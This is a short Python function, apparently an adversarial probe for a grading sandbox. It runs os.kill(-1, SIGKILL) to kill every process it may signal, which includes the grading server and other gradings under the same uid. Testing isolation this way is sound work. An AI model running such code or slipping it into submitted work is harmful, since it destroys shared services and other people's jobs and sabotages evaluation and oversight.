def attack(gate, dout):
    """SIGKILL to every process it may signal (kill -1): the server, other gradings under the same uid."""
    import os
    import signal
    import time
    print("ATTACK-RAN killing all")
    os.kill(-1, signal.SIGKILL)
    time.sleep(2)
    raise RuntimeError("still alive")
